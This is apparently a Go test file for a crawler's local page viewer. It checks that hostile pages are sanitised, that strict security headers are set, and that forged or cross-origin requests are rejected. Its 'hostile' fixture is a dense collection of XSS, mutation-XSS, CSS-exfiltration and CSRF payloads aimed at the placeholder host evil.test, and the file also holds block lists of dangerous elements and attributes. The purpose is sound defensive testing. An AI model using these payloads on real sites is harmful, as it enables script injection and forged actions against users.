package teach

import (
	"bytes"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"github.com/waggle-crawler/waggle/internal/text"
	"github.com/waggle-crawler/waggle/parse"
	"github.com/waggle-crawler/waggle/web"
)

// hostile is a page with everything a page can try. WAGGLE stands for the
// address of the server itself.
const hostile = `text/html; charset=utf-8:<!DOCTYPE html><html onclick="x()" manifest="/m"><head>
<title>]]></title><script>top.location='http://evil.test/title'</script>` + "\x1b]0;owned\x07\u202e" + `</title>
<base href="http://evil.test/" target="_top">
<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="preload" href="http://evil.test/preload" as="image"><link rel="prefetch" href="http://evil.test/prefetch">
<link rel="dns-prefetch" href="//dns.evil.test"><link rel="preconnect" href="http://evil.test">
<link rel="icon" href="http://evil.test/icon"><link rel="stylesheet" href="http://college.test/evil.css">
<script>top.location = "http://evil.test/top"; parent.postMessage("x", "*")</script>
<script src="http://evil.test/a.js"></script>
<style>@import "http://evil.test/import.css"; @\69mport "http://evil.test/escaped.css";
body { background: url(http://evil.test/bg.png) } p { background: u\72l(http://evil.test/escaped.png) }
a[href^="/page"] { background-image: image-set("http://evil.test/leak.png" 1x) }
@font-face { font-family: f; src: url(http://evil.test/f.woff) } h1 { font-family: f }
.overlay { position: fixed; inset: -9999px; z-index: 2147483647; background: red; opacity: .9 }
</style><body onload="x()" background="http://evil.test/body.png"><h1>Hostile</h1>
</style><script>document.title='ran'</script>
<div class="overlay" style="background:url('http://evil.test/style.png')">cover</div>
<form id=f action="WAGGLE/do/remove" method="post" enctype="text/plain"><input name='{"path":0,"x":"' value='"}'><input type=submit value="Win a prize"></form>
<form action="http://evil.test/form"><button autofocus formaction="javascript:x()">Go</button><input type=password name=p></form>
<img src="http://evil.test/i.png" srcset="http://evil.test/s.png 2x" onerror="x()" alt="An image"><img src="WAGGLE/do/undo">
<a href="javascript:top.location='http://evil.test/js'">js</a> <a href=" java&#10;script:x()">js2</a>
<a href="data:text/html,<script>x()</script>">data</a> <a href="//evil.test/a" target="_top" ping="http://evil.test/ping" onclick="x()" download>Away</a>
<a href="WAGGLE/do/undo">own</a> <a href="vbscript:x">vb</a> <a id=last href="http://college.test/dept/">Departments</a>
<iframe src="http://evil.test/frame" srcdoc="<script>x()</script>"></iframe><object data="http://evil.test/o"><param name=x></object>
<embed src="http://evil.test/e"><applet code=x archive="http://evil.test/x.jar"></applet><video src="http://evil.test/v" poster="http://evil.test/p" autoplay></video>
<audio src="http://evil.test/au" autoplay></audio><portal src="http://evil.test/portal"></portal><frame src="http://evil.test/fr">
<svg onload="x()"><script>x()</script><a xlink:href="javascript:x()"><text>svg</text></a><image href="http://evil.test/svg.png"/><use href="http://evil.test/u#x"/><animate attributeName=href values="javascript:x()"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;"></math>
<noscript><p title="</noscript><img src=x onerror=x()>"></noscript><template><script>x()</script><img src=http://evil.test/t></template>
<textarea></textarea><img src=y onerror=x()></textarea><xmp><img src=x onerror=x()></xmp><!--><img src=z onerror=x()>-->
<p title='"><script>x()</script>' id="controls" name="getElementById">clobber</p><select><option onfocus=x()>o</select><details open ontoggle=x()>d</details>
<marquee onstart=x()>m</marquee><isindex action="javascript:x()"><input type=image src="http://evil.test/in"><table background="http://evil.test/tb"><td background="javascript:x()">t</table>
<script type="importmap">{"imports":{"x":"http://evil.test/map.js"}}</script><script type=speculationrules>{"prefetch":[{"urls":["http://evil.test/spec"]}]}</script>
<link rel="modulepreload" href="http://evil.test/mod.js"><link rel="prerender" href="http://evil.test/prerender"><link rel="manifest" href="http://evil.test/man">
<link rel="StyleSheet alternate" href="http://evil.test/alt.css"><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Link" content="<http://evil.test/lnk>;rel=preload">
<picture><source srcset="http://evil.test/pic 1x"><img src="http://evil.test/picimg" loading=eager fetchpriority=high></picture><image src="http://evil.test/image">
<style>@layer a { @import url(//evil.test/layer.css); } ul { list-style: url("http://evil.test/li") } p { cursor: url(http://evil.test/cur), auto; --x: url(http://evil.test/var); content: var(--x) }
q::before { content: url(data:image/svg+xml,%3Csvg/%3E) url(http://evil.test/gen) } div { -webkit-mask: url(http://evil.test/mask#m); filter: url(http://evil.test/filter#f); shape-outside: url(http://evil.test/so); src: src("http://evil.test/src") }
@namespace url(http://evil.test/ns); @font-face { font-family: g; src: local(x), u\72 l("http://evil.test/g.woff2") } body { font-family: g } @property --p { syntax: "<url>"; inherits: false; initial-value: url(http://evil.test/prop) }</style>
<p style="background:\75 rl(http://evil.test/esc2); background-image: -webkit-cross-fade(url(http://evil.test/cf), url(http://evil.test/cf2), 50%); position:fixed; inset:0; z-index:9">overlay</p>
<svg><style>@import "http://evil.test/svgcss";</style><foreignObject><iframe src="http://evil.test/fo"></iframe></foreignObject><set attributeName=href to="javascript:x()"/><feImage href="http://evil.test/fe"/></svg>
<fencedframe src="http://evil.test/ff"></fencedframe><object data="data:text/html,<script>x()</script>"></object><embed src="javascript:x()"><iframe srcdoc="<meta http-equiv=refresh content=0;url=http://evil.test/srcdoc>"></iframe>
<svg></p><style><a id="</style><img src=http://evil.test/mx1 onerror=x()>"></svg><math></br><mtext><script>x()</script></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=http://evil.test/mx2 onerror=x()></style></form>
<noscript><style></noscript><img src=http://evil.test/mx3 onerror=x()></style><select><template><style></select><img src=http://evil.test/mx4></style></template></select>
<a href="&#1;javascript:x()">c0</a><a href="https:javascript:x()">odd</a><a href="blob:http://evil.test/x">blob</a><a href="filesystem:http://evil.test/">fs</a><a href="view-source:x">vs</a>
<a href="#\" onmouseover=x() y="">frag</a><div popover id=pop onbeforetoggle=x()>pop</div><button popovertarget=pop command=show-popover commandfor=pop>b</button><dialog open>dia</dialog>
<img src='http://evil.test/dangling?<p>all of this would be the address of an image</p>
<b>bold</b> '><keygen autofocus><bgsound src="http://evil.test/snd"><command onclick=x()><nextid><blink>b</blink><layer src="http://evil.test/layer"></layer>
<plaintext><script>x()</script>`

// served is what the handler gives out for the hostile page.
func served(t *testing.T) (d *desk, doc string, header http.Header) {
	t.Helper()
	pages := college()
	d = sit(t, pages, func(o *Options) { o.Images = true })
	pages["http://college.test/hostile"] = strings.ReplaceAll(hostile, "WAGGLE", d.http.URL)
	pages["http://college.test/evil.css"] = `text/css:@import url(http://evil.test/i.css); h1 { background: url( "http://evil.test/1.png" ) } </style><script>x()</script>`
	st, failed := d.do("open", asked{URL: "http://college.test/hostile"})
	if failed != "" {
		t.Fatal(failed)
	}
	resp, doc := d.request("GET", st.Src, map[string]string{"Sec-Fetch-Dest": "iframe"}, "")
	return d, doc, resp.Header
}

// What must not be shown, whatever the lists say.
const (
	active = " script iframe frame frameset object embed applet base form button svg math template noscript audio video portal "
	acting = " action background data formaction form http-equiv content manifest ping poster srcdoc srcset target xlink:href codebase archive usemap autofocus "
)

// harmless tells what in a document a browser could act upon: elements and
// attributes beyond the lists, and addresses that are not the server's numbers.
func harmless(doc, cap string) error {
	ours := regexp.MustCompile(`^(#.*|/(page|load)/` + regexp.QuoteMeta(cap) + `/\d+/\d+)$`)
	elements, attributes := elements(), attributes()
	shownAs := map[string]bool{"html": true, "head": true, "body": true, "meta": true, "title": true, "style": true, "link": true, "img": true, "input": true, "textarea": true}
	for _, as := range elements {
		shownAs[as] = true
	}
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		return err
	}
	for n := range root.Descendants() {
		switch n.Type {
		case html.CommentNode:
			return fmt.Errorf("a comment: %q", n.Data)
		case html.ElementNode:
		default:
			continue
		}
		if !shownAs[n.Data] || n.Namespace != "" || strings.Contains(active, " "+n.Data+" ") {
			return fmt.Errorf("element %s %s", n.Namespace, n.Data)
		}
		for _, a := range n.Attr {
			switch key := a.Key; {
			case strings.HasPrefix(key, "on"), strings.Contains(acting, " "+key+" "):
				return fmt.Errorf("attribute %s of %s", key, n.Data)
			case key == "href" && (n.Data == "a" || n.Data == "link"), key == "src" && n.Data == "img":
				if !ours.MatchString(a.Val) {
					return fmt.Errorf("%s leads to %q", n.Data, a.Val)
				}
			case n.Data == "meta" && key == "charset", n.Data == "link" && (key == "rel" && a.Val == "stylesheet" || key == "media"):
			case n.Data == "img" && key == "loading", key == "disabled", key == "style":
			case n.Data == "input" && (key == "type" || key == "value"):
			case attributes[key]:
			default:
				return fmt.Errorf("attribute %s of %s", key, n.Data)
			}
		}
	}
	return nil
}

// TestHostileServed looks at what is served of a hostile page: no script, no
// handler, no address but the server's own numbers, and the policy around it.
func TestHostileServed(t *testing.T) {
	d, doc, header := served(t)
	if err := harmless(doc, d.cap); err != nil {
		t.Error(err)
	}
	policy := header.Get("Content-Security-Policy")
	for _, want := range []string{"sandbox;", "default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-ancestors " + d.http.URL, "img-src " + d.http.URL + "/load/"} {
		if !strings.Contains(policy, want) {
			t.Errorf("the policy lacks %q: %s", want, policy)
		}
	}
	if strings.Contains(policy, "script-src") || strings.Contains(policy, "allow-") {
		t.Errorf("the policy allows too much: %s", policy)
	}
	for _, h := range []string{"Refresh", "Set-Cookie", "Link", "Location"} {
		if header.Get(h) != "" {
			t.Errorf("the page's header %s was passed on", h)
		}
	}
	if header.Get("X-Content-Type-Options") != "nosniff" || header.Get("Referrer-Policy") != "no-referrer" || header.Get("Cache-Control") != "no-store" {
		t.Errorf("headers %v", header)
	}
	st := d.Server.state()
	if title := st.Steps[0].Title; strings.ContainsAny(title, "\x1b\x07\u202e") {
		t.Errorf("the title still holds escapes: %q", title)
	}
	if !strings.Contains(doc, ">Departments</a>") || !strings.Contains(doc, "Hostile") {
		t.Errorf("the page's own text is gone:\n%s", doc)
	}
	d.mu.Lock()
	v := d.view(d.current)
	d.mu.Unlock()
	for k, r := range v.resources {
		resp, body := d.request("GET", fmt.Sprintf("/load/%s/%d/%d", d.cap, v.number, k), nil, "")
		if r.style && (resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "text/css; charset=utf-8" || strings.Contains(body, "evil.test")) {
			t.Errorf("sheet %s: %d %v\n%s", r.url, resp.StatusCode, resp.Header, body)
		}
	}
}

// TestCleanCSS takes out what loads, however it is written, and leaves the rest.
func TestCleanCSS(t *testing.T) {
	for in, want := range map[string]string{
		`p{color:red}`: `p{color:red}`,
		`@import "http://evil.test/a"; p{color:red}`: ` p{color:red}`,
		`@\69mport url(x);p{}`:                       `p{}`,
		`p{background:u\72l(http://evil.test/)}`:     `p{background:none}`,
		`p{background:\000075 \rl("a)b") red}`:       `p{background:none red}`,
		`p{background:image-set("x" 1x)}`:            `p{background:none}`,
		`@media(x){.md\:w-1\/2{content:"\201c\a"}}`:  `@media(x){.md\:w-1\/2{content:"\201c\a"}}`,
		`a{b:url(`:                 `a{b:none`,
		`p{width:calc(1px + 2px)}`: `p{width:calc(1px + 2px)}`,
		`@font-face{src:local(x),u\72 l("http://evil.test/g.woff2")}`:        `@font-face{src:local(x),none}`,
		`p{background:-webkit-image-set(url(a) 1x, url("b)") 2x);color:red}`: `p{background:none 1x, none 2x);color:red}`,
	} {
		if got := cleanCSS(in); got != want {
			t.Errorf("%s\ngot  %s\nwant %s", in, got, want)
		}
	}
}

// TestStrangers asks as others on the machine could: other names for it, other
// origins, forms, guesses.
func TestStrangers(t *testing.T) {
	d, _, _ := served(t)
	own, token := d.http.URL, d.token
	before := len(d.saved)
	for name, c := range map[string]struct {
		method, path, body string
		header             map[string]string
		want               int
	}{
		"another name for this machine": {"GET", "/" + token + "/", "", map[string]string{"Host": "rebound.evil.test"}, 421},
		"another port":                  {"GET", "/" + token + "/", "", map[string]string{"Host": "127.0.0.1:1"}, 421},
		"an action by another name":     {"POST", "/do/undo", "{}", map[string]string{"Host": "rebound.evil.test", TokenHeader: token}, 421},
		"no token":                      {"POST", "/do/undo", "{}", nil, 403},
		"a wrong token":                 {"POST", "/do/undo", "{}", map[string]string{TokenHeader: token[1:] + "A"}, 403},
		"the token in the query":        {"POST", "/do/undo?token=" + token, "{}", nil, 403},
		"a form of a page":              {"POST", "/do/remove", `{"path":0,"x":"="}`, map[string]string{"Origin": "null", "Content-Type": "text/plain"}, 403},
		"an opaque origin":              {"POST", "/do/undo", "{}", map[string]string{"Origin": "null", TokenHeader: token}, 403},
		"another site":                  {"POST", "/do/undo", "{}", map[string]string{"Origin": "http://evil.test", TokenHeader: token}, 403},
		"another site, by its fetch":    {"POST", "/do/undo", "{}", map[string]string{"Sec-Fetch-Site": "cross-site", TokenHeader: token}, 403},
		"the state without a token":     {"GET", "/do/state", "", nil, 403},
		"an action by GET":              {"GET", "/do/undo", "", map[string]string{TokenHeader: token}, 403},
		"a post to the controls":        {"POST", "/" + token + "/", "", nil, 403},
		"a guess at a page":             {"GET", "/page/AAAA/1/", "", nil, 403},
		"a guess at the controls":       {"GET", "/AAAA/", "", nil, 403},
		"the root":                      {"GET", "/", "", nil, 403},
		"a file above":                  {"GET", "/" + token + "/../teach.go", "", nil, 400},
		"a link that an image loads":    {"GET", "/page/" + d.cap + "/1/0", "", map[string]string{"Sec-Fetch-Dest": "image"}, 403},
		"a link in a window":            {"GET", "/page/" + d.cap + "/1/0", "", map[string]string{"Sec-Fetch-Dest": "document"}, 403},
		"a link nobody clicked":         {"GET", "/page/" + d.cap + "/1/0", "", map[string]string{"Sec-Fetch-Dest": "iframe", "Sec-Fetch-Mode": "navigate"}, 403},
		"a link there is not":           {"GET", "/page/" + d.cap + "/1/999", "", nil, 404},
		"a page there is not":           {"GET", "/page/" + d.cap + "/99/", "", nil, 410},
		"a number that is none":         {"GET", "/page/" + d.cap + "/1/0x1", "", nil, 404},
		"a resource there is not":       {"GET", "/load/" + d.cap + "/1/999", "", nil, 403},
		"an image as a document":        {"GET", "/load/" + d.cap + "/1/0", "", map[string]string{"Sec-Fetch-Dest": "document"}, 403},
		"too much":                      {"POST", "/do/label", `{"label":"` + strings.Repeat("x", maxAsked) + `"}`, map[string]string{TokenHeader: token, "Origin": own}, 400},
		"unknown words":                 {"POST", "/do/label", `{"lable":"x"}`, map[string]string{TokenHeader: token, "Origin": own}, 400},
	} {
		resp, body := d.request(c.method, c.path, c.header, c.body)
		if resp.StatusCode != c.want {
			t.Errorf("%s: status %d, not %d", name, resp.StatusCode, c.want)
		}
		if strings.Contains(body, token) || strings.Contains(body, d.cap) {
			t.Errorf("%s: the answer holds a key: %s", name, body)
		}
	}
	if len(d.saved) != before {
		t.Errorf("paths were saved %d times", len(d.saved)-before)
	}
	resp, body := d.request("GET", "/"+token+"/", nil, "")
	policy := resp.Header.Get("Content-Security-Policy")
	if resp.StatusCode != 200 || !strings.Contains(body, `sandbox=""`) || !strings.Contains(policy, "frame-ancestors 'none'") ||
		!strings.Contains(policy, "frame-src "+own+"/page/") || strings.Contains(policy, "unsafe") {
		t.Errorf("the controls: status %d, policy %s", resp.StatusCode, policy)
	}
}

// TestAddressOfThisMachine refuses to listen where others could ask.
func TestAddressOfThisMachine(t *testing.T) {
	for _, address := range []string{"0.0.0.0:80", "192.0.2.1:80", ":80", "", "localhost"} {
		if _, err := New(Options{Address: address}); err == nil || !strings.Contains(err.Error(), "this machine only") {
			t.Errorf("%q: %v", address, err)
		}
	}
}

// TestHuge shows as much of a huge page as is bearable.
func TestHuge(t *testing.T) {
	pages := college()
	pages["http://college.test/long"] = "text/html:<title>long</title>" + strings.Repeat("<p>bees <b>dance</b>", 60_000)
	pages["http://college.test/deep"] = "text/html:<title>deep</title>" + strings.Repeat("<div>", 60_000) + `<a href=/>Home</a>`
	pages["http://college.test/attr"] = `text/html:<p class="` + strings.Repeat("x", 1<<20) + `">ok`
	pages["http://college.test/text"] = "text/plain:" + strings.Repeat("<", maxPlain+9)
	d := sit(t, pages, nil)
	for _, name := range []string{"long", "deep", "attr", "text"} {
		st, failed := d.do("open", asked{URL: "http://college.test/" + name})
		if failed != "" || !st.Labelable {
			t.Fatalf("%s: %s", name, failed)
		}
		_, doc := d.request("GET", st.Src, nil, "")
		if len(doc) > maxShown+maxPlain || len(doc) < 100 {
			t.Errorf("%s: %d bytes", name, len(doc))
		}
		if cut := strings.Contains(doc, "goes on, too long to be shown whole"); cut != (name == "long" || name == "text") {
			t.Errorf("%s: cut and told of: %v", name, cut)
		}
		if name == "attr" && !strings.Contains(doc, "<p>ok") {
			t.Errorf("attr: %.200s", doc)
		}
	}
}

// FuzzShow shows any page at all, and looks at what a browser would make of it.
func FuzzShow(f *testing.F) {
	f.Add(strings.TrimPrefix(hostile, "text/html; charset=utf-8:"))
	for _, page := range college() {
		f.Add(page)
	}
	parser := parse.New(parse.Options{Analyzer: text.NewAnalyzer()})
	u, err := web.Parse("http://college.test/any")
	if err != nil {
		f.Fatal(err)
	}
	path := func(prefix string) func(int) string {
		return func(k int) string { return fmt.Sprintf("/%s/CAP/1/%d", prefix, k) }
	}
	f.Fuzz(func(t *testing.T, src string) {
		p, err := parser.Parse(&web.Response{URL: u, Status: 200, Header: web.Header{"Content-Type": {"text/html; charset=utf-8"}}, Body: []byte(src)})
		if err != nil {
			return // no page
		}
		got := showing{linkPath: path("page"), resourcePath: path("load"), styles: true, images: true}.show(p, utf8Of(p, []byte(src)))
		if err := harmless(string(got.html), "CAP"); err != nil {
			t.Fatalf("%v\n%q\n%s", err, src, got.html)
		}
		// A browser that is shown its own reading of it reads the same: markup
		// cannot turn into other markup.
		root, err := html.Parse(bytes.NewReader(got.html))
		if err != nil {
			t.Fatal(err)
		}
		var again strings.Builder
		if err := html.Render(&again, root); err != nil {
			return // too deep to be written
		}
		if err := harmless(again.String(), "CAP"); err != nil {
			t.Fatalf("read twice: %v\n%q\n%s", err, src, again.String())
		}
	})
}

// TestAnyPageIsHarmless makes pages of scraps of markup: whatever they add up
// to, what is served is harmless.
func TestAnyPageIsHarmless(t *testing.T) {
	scraps := []string{
		"<", ">", "/", `"`, "'", "=", " ", "<!--", "-->", "<![CDATA[", "]]>", "<?", "<!", "&lt;", "&#60;", "&#x3c;script&gt;", "\x00", "\xff", "\t\n",
		"<script>", "</script>", "<style>", "</style>", "<title>", "</title>", "<textarea>", "</textarea>", "<noscript>", "</noscript>", "<xmp>", "</xmp>",
		"<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>", "<foreignObject>", "<template>", "</template>", "<plaintext>", "<iframe src=/x>", "<select>", "<option>",
		"<a href=javascript:x()>", "<a href=/dept/>", "</a>", "<img src=x onerror=x()>", "<p onclick=x() title=\"", "<base href=//evil.test>", "<form action=x>", "<input type=text value='",
		"<link rel=stylesheet href=/s.css>", "<meta http-equiv=refresh content=0;url=x>", "<table>", "<tr>", "<td background=x>", "<div style=\"x:url(y)\">", "bees",
	}
	d := sit(t, college(), func(o *Options) { o.Images = true })
	rapid.Check(t, func(t *rapid.T) {
		body := strings.Join(rapid.SliceOfN(rapid.SampledFrom(scraps), 0, 40).Draw(t, "scraps"), "")
		d.site.pages["http://college.test/any"] = "text/html; charset=utf-8:<p>Some bees dance.</p>" + body
		st, failed := d.do("open", asked{URL: "http://college.test/any"})
		if failed != "" || !st.Labelable {
			t.Fatalf("not shown: %q\n%q", failed, body)
		}
		_, doc := d.request("GET", st.Src, nil, "")
		if err := harmless(doc, d.cap); err != nil {
			t.Fatalf("%v\n%q\n%s", err, body, doc)
		}
	})
}
